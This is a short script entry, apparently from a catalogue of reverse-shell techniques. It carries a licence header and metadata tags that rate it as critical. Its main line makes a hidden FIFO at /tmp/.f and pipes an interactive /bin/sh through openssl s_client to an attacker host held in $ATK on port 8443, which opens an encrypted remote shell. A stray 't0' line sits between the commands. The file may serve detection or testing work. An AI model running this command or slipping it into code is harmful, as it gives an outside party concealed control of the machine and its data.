# SPDX-License-Identifier: MIT
# technique: a shell between a fifo and openssl s_client (TLS to port 8443)
# level: critical
# quick: no
rm -f /tmp/.f; mkfifo /tmp/.f
t0
timeout 8 bash -c "/bin/sh -i </tmp/.f 2>&1 | openssl s_client -quiet -connect $ATK:8443 >/tmp/.f"
